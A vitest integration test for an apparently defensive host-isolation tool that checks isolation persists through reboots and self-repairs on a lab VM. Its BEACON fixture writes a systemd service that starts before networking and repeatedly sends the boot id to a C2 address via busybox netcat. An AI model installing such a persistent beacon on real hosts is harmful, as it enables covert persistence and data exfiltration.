import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { type C2, startC2 } from "#range/c2";
import { runLocal, until } from "#range/machine";
import { type Range, startRange } from "#range/range";
import { prepareVm, vmAvailable } from "#range/vm/saved";
import { startVm, type Vm } from "#range/vm/vm";
import { PATIENCE } from "#testing/patience";
import { type InShell, inShell } from "#testing/shell";
import { confirm, PROGRAM, sessionsFolder } from "#testing/story";

const reason = vmAvailable();
if (reason !== undefined && process.env["CI"]) throw new Error(`no virtual machine can be made here: ${reason}`);
/** Patience for one thing on an emulated machine that is slow and may be not the only one, and for what holds a boot. */
const BOOT = 400_000;

/** Begins before any network is there and calls the C2 from then on, at each boot, whose id it says; /run/tried has a line a call, since this boot. */
const BEACON = `cat >/etc/systemd/system/beacon.service <<'END'
[Unit]
DefaultDependencies=no
[Service]
ExecStart=/bin/sh -c 'while :; do busybox nc -w 1 ADDRESS PORT </proc/sys/kernel/random/boot_id >/dev/null 2>&1; echo >>/run/tried; sleep 1; done'
[Install]
WantedBy=sysinit.target
END
systemctl --quiet enable --now beacon.service`;

/** Whatever of ours is on the guest's disk, and what systemd and the kernel know of it. */
const LEFT = `ls -d /etc/systemd/system/stakeout* /etc/systemd/system/*/stakeout* 2>/dev/null
systemctl list-units --all --plain --no-legend 'stakeout*'; nft list tables | grep stakeout; true`;

const began = performance.now();
const tell = (line: string) => process.stdout.write(`stakeout: vm +${((performance.now() - began) / 1000).toFixed(1)} s: ${line}\n`);

/** An isolation that stands through a reboot, on a machine that has one. */
describe.skipIf(reason !== undefined)(`through a reboot${reason ? ` (skipped: ${reason})` : ""}`, () => {
  const sessions = sessionsFolder();
  let range: Range;
  let vm: Vm;
  let c2: C2;
  let shown: InShell | undefined;
  const program = (...argv: string[]) => range.inNetns(range.netns.analyst, [...PROGRAM, ...argv, "--config", vm.sshConfig]);
  const openConsole = () => {
    shown?.remove();
    shown = inShell(program("vmbox", "--sessions", sessions.path, "--no-card", "--analyst", "jm", "--collect", "poll"), 160, 50);
    return shown;
  };
  const of = (action: string) => sessions.events().filter(({ event }) => event.action === action);
  const waitFor = async (what: string, condition: () => unknown, timeoutMs = PATIENCE) => {
    const from = performance.now();
    await until(what, async () => Boolean(await condition()), { timeoutMs, everyMs: 200 });
    tell(`${what}: ${((performance.now() - from) / 1000).toFixed(1)} s`);
  };
  const guest = async (script: string) => (await vm.run(script)).stdout.trim();
  const tried = async () => Number(await guest("wc -l </run/tried"));
  /** The beacon has called so often since it was asked, and nothing of it has come to the C2. */
  const silentFor = async (calls: number) => {
    const [from, reached] = [await tried(), c2.connections.length];
    await waitFor(`${calls} more calls`, async () => (await tried()) >= from + calls);
    expect(c2.connections.length).toBe(reached);
  };
  const reached = async () => {
    const known = c2.connections.length;
    await waitFor("the beacon to get through", () => c2.connections.length > known);
  };
  const reboot = async () => {
    tell("reboots");
    await vm.reboot();
    tell("its services are up");
  };

  beforeAll(async () => {
    await prepareVm("6.1", { say: tell });
    range = await startRange({ say: tell });
    vm = await startVm(range, "6.1", { say: tell });
    c2 = await startC2(range);
    const made = await vm.run(BEACON.replace("ADDRESS", range.c2.address).replace("PORT", String(range.c2.port)));
    expect(made.code, made.stderr).toBe(0);
    await reached();
  }, 3 * BOOT);
  afterEach(({ task }) => {
    if (task.result?.state === "fail" && shown) tell(shown.screen.text());
  });
  afterAll(async () => {
    shown?.kill("SIGKILL");
    shown?.remove();
    await c2?.stop();
    await vm?.stop();
    await range?.stop();
    sessions.remove();
  });

  test("chosen in the dialog, it is written once access is proven, and what somebody removes of it is put back", async () => {
    const console_ = openConsole();
    await waitFor("the first snapshot", () => of("baseline.complete").length === 1);
    console_.press("I");
    await console_.screen.until(/ends with a reboot: nothing is written/);
    console_.press("v");
    await console_.screen.until(/reverts by itself when the host/);
    expect(await guest(LEFT), "nothing is written for a plan").toBe("");
    console_.press("v");
    await console_.screen.until(/stays until somebody releases it[\s\S]*through a reboot too/);
    await confirm(console_, /verified ✓ \d+\.\d s ago · 0 packets out/, PATIENCE);
    console_.press("escape");
    await console_.screen.until(/stays through reboots/);
    await silentFor(3);
    const [done] = of("response.succeeded");
    const files = done?.stakeout.response?.on_disk ?? [];
    tell((done?.stakeout.response?.steps ?? []).map(({ name, milliseconds }) => `${name} ${milliseconds.toFixed(0)} ms`).join(", "));
    expect(done?.stakeout.response).toMatchObject({ keeps: "boot", plan: expect.stringContaining("WantedBy=sysinit.target") });
    expect(files).toHaveLength(2);
    const [unit = "", rules = ""] = files;
    const name = unit.split("/").at(-1);
    expect(await guest(`stat -c '%a %U %n' ${unit} ${rules}`)).toBe(`644 root ${unit}\n600 root ${rules}`);
    expect(await guest(`systemctl is-enabled ${name}; systemctl is-active ${name}`)).toBe("enabled\nactive");
    expect((await vm.run(`nft -c -f ${rules}`)).code).toBe(0);
    await guest(`rm ${unit}; echo '# nothing' >${rules}`);
    await waitFor("that to be told", () => of("finding.create").some(({ stakeout }) => stakeout.finding?.rule === "boot-changed"));
    expect(await guest(`systemctl is-enabled ${name}; grep -c analyst ${rules}`)).toMatch(/^enabled\n[1-9]/);
    await console_.screen.until(/stays through reboots/);
  });

  test("after a reboot it stands: nothing got out, the analyst gets in, the interfaces are hooked again, and a release takes all of it away", async () => {
    const console_ = shown as InShell;
    const session = sessions.newest();
    // it flushes the whole ruleset when it starts, here as late as on a slow host
    const late = "d=/etc/systemd/system/nftables.service.d; mkdir -p $d; printf '[Service]\\nExecStartPre=/bin/sleep 15\\n' >$d/late.conf";
    expect((await vm.run(`${late}; systemctl --quiet enable nftables`)).code).toBe(0);
    await reboot();
    await waitFor("the session to go on", () => of("session.resume").length === 1, BOOT);
    await waitFor("it to be made anew", () =>
      of("response.succeeded").some(
        ({ event, stakeout }) => stakeout.sensor === "isolation" && /came up isolated/.test(event.reason ?? ""),
      ),
    );
    await console_.screen.until(/ISOLATED by jm since[^\n]*verified ✓ \d+\.\d s ago[^\n]*stays through reboots/);
    expect(sessions.newest()).toBe(session);
    expect(await tried(), "the beacon has called since the boot").toBeGreaterThan(0);
    await silentFor(3);
    const thisBoot = c2.connections.filter(({ line }) => line === vm.bootId);
    expect(thisBoot, "nothing of this boot came to the C2").toEqual([]);
    expect(await guest("systemctl is-active nftables")).toBe("active");
    expect(await guest("nft list table netdev stakeout_isolation | grep -c eth0")).toMatch(/^[1-9]/);
    expect(of("finding.create").filter(({ stakeout }) => stakeout.finding?.rule === "isolation-ended")).toEqual([]);
    // systemd loaded the rules before it set the network up
    const order = await guest(
      "u=$(ls /etc/systemd/system | grep stakeout.*service); for n in $u systemd-networkd; do systemctl show -P ActiveEnterTimestampMonotonic $n; done",
    );
    const [rulesAt = 0, networkAt = 0] = order.split("\n").map(Number);
    expect(rulesAt).toBeGreaterThan(0);
    expect(rulesAt).toBeLessThan(networkAt);
    console_.press("I");
    await confirm(console_, /we are still in/, PATIENCE);
    console_.press("enter");
    expect(await guest(LEFT)).toBe("");
    const released = of("response.succeeded").at(-1)?.stakeout.response;
    expect(released).toMatchObject({ kind: "release" });
    expect(released?.steps).toContainEqual(expect.objectContaining({ name: "the files on its disk are gone", ok: true }));
    expect(released?.error).toBeUndefined();
    await waitFor("this boot's beacon at the C2", () => c2.connections.some(({ line }) => line === vm.bootId));
    console_.press("q");
    expect((await console_.over()).code).toBe(0);
  });

  test("what is on the disk of a host that is not isolated is said, and taken away; the next boot is open", async () => {
    const made = await runLocal(program("isolate", "vmbox", "--through-reboot", "--sessions", sessions.path));
    expect(made.code, made.stderr).toBe(0);
    expect(JSON.parse(made.stdout)).toMatchObject({
      verified: { access: true, cut: true },
      on_disk: [expect.any(String), expect.any(String)],
    });
    await guest("systemctl restart nftables");
    expect(await guest("nft list tables"), "nftables was restarted, and flushed the ruleset").toContain("table inet stakeout_isolation");
    await guest("pkill -f 'stakeout-[g]uard'; nft delete table netdev stakeout_isolation; nft delete table inet stakeout_isolation");
    await reached();
    const console_ = openConsole();
    await waitFor("it to be found", () => of("finding.create").some(({ stakeout }) => stakeout.finding?.rule === "isolation-on-disk"));
    console_.press(":", ..."off the disk");
    await console_.screen.until(/Take off the disk/);
    console_.press("enter");
    await console_.screen.until(/would be at its next boot/);
    await confirm(console_, /we are still in/, PATIENCE);
    console_.press("enter");
    expect(await guest(LEFT)).toBe("");
    console_.press("q");
    expect((await console_.over()).code).toBe(0);
    await reboot();
    await reached();
  });
});
